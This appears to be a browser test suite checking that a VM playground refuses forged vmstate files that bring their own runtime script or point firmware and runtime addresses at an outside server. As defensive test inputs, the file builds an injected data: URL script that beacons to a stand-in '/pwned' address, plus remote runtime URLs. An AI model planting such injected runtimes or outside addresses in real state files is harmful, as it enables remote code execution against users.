/**
 * Vmstates from strangers, loaded in every possible way: the page requests none of the addresses in
 * them.
 */
import { readFile } from 'node:fs/promises';
import xxhash from 'xxhash-wasm';
import { jsonSection, type MachineSection, readSection } from '../../src/vmstate/sections.ts';
import { decodeVmstate, encodeVmstate } from '../../src/vmstate/vmstate.ts';
import { playground } from '../support/playground-page.ts';
import { Stranger } from '../support/stranger.ts';
import {
  expect,
  openStandingGuest,
  type StandingGuest,
  test,
  waitForPasses,
} from '../support/test.ts';

/** Names a script of its own as the runtime, and no stored machine. */
const frozen = 'src/runtime/testing/states/hostile/runtime-in-file.vmstate';

let standing: StandingGuest;
let stranger: Stranger;

test.beforeAll(async ({ browser, siteRoot, inPageBundle }) => {
  stranger = await Stranger.listen();
  standing = await openStandingGuest({ browser, siteRoot, inPageBundle });
});

test.afterAll(async () => {
  stranger?.close();
  await standing?.close();
});

/** The same with all addresses replaced by the stranger's, and a stored machine of this name. */
async function forged(machineId: string, runtimeUrl: string): Promise<Buffer> {
  const { h64Raw } = await xxhash();
  const sections = decodeVmstate(await readFile(frozen), h64Raw);
  const machine = readSection(sections, 'machine') as MachineSection;
  const elsewhere = (file: string) => ({ url: stranger.url + file });
  const config = { ...machine.config, bios: elsewhere('bios'), vgaBios: elsewhere('vga') };
  const runtime = { ...machine.runtime, url: runtimeUrl, wasmUrl: `${stranger.url}v86.wasm` };
  const checkpoint = { machineId, generation: 1, manifestDigest: `xxh64:${'0'.repeat(16)}` };
  const changed = [
    jsonSection('machine', { ...machine, config, runtime } as MachineSection),
    jsonSection('checkpoint', checkpoint),
  ];
  const others = sections.filter(({ name }) => name !== 'machine' && name !== 'checkpoint');
  return Buffer.from(encodeVmstate([...changed, ...others], h64Raw));
}

async function hostileStates(): Promise<[string, Buffer][]> {
  const script = `fetch(${JSON.stringify(`${stranger.url}pwned`)},{mode:'no-cors'});export const abiVersion=1;`;
  const data = `data:text/javascript,${encodeURIComponent(script)}`;
  const { config } = await standing.guest.status();
  return [
    ['the file of the review', await readFile(frozen)],
    ['a script within the file', await forged('nothing-stored', data)],
    ['a script of another server', await forged('nothing-stored', `${stranger.url}runtime.js`)],
    ['the machine of this page', await forged(config.id ?? '', `${stranger.url}runtime.js`)],
  ];
}

test('Load state… refuses a vmstate that brings its own runtime: no request, and the guest runs on', async () => {
  const { guest, site } = standing;
  const { page } = guest;
  // The page fetches parts of its own build a while after it is there.
  await playground(page).hasItsParts();
  for (const [what, buffer] of await hostileStates()) {
    const asked = site.requests.length;
    await playground(page).choose('Load state…');
    const [chooser] = await Promise.all([
      page.waitForEvent('filechooser'),
      playground(page).ok(playground(page).stateDialog).click(),
    ]);
    await chooser.setFiles({ name: 'cool.vmstate', mimeType: 'application/octet-stream', buffer });
    const notice = page.getByRole('alert');
    await expect(notice, what).toContainText(/not-found|wrong-machine|storage/);
    await notice.getByRole('button', { name: 'Dismiss' }).click();
    await waitForPasses(guest);
    expect(stranger.requests, what).toEqual([]);
    expect(site.requests.slice(asked), what).toEqual([]);
  }
});

test('cprLoad with replace refuses them with a typed error, and so does a keeper without a guest', async () => {
  const { guest } = standing;
  const load = (buffer: Buffer, replace: boolean) =>
    guest.machine(
      (machine, [bytes, doesReplace]) =>
        machine
          .cprLoad({ kind: 'bytes', bytes: Uint8Array.from(bytes) }, { replace: doesReplace })
          .then(
            () => 'loaded',
            ({ code }) => code,
          ),
      [[...buffer], replace] as const,
    );
  const states = await hostileStates();
  for (const [what, buffer] of states)
    expect(await load(buffer, true), what).toMatch(/^(not-found|wrong-machine)$/);
  await waitForPasses(guest);
  await guest.machine((machine) => machine.destroy());
  for (const [what, buffer] of states)
    expect(await load(buffer, false), what).toMatch(/^(not-found|wrong-machine)$/);
  expect(stranger.requests).toEqual([]);
});
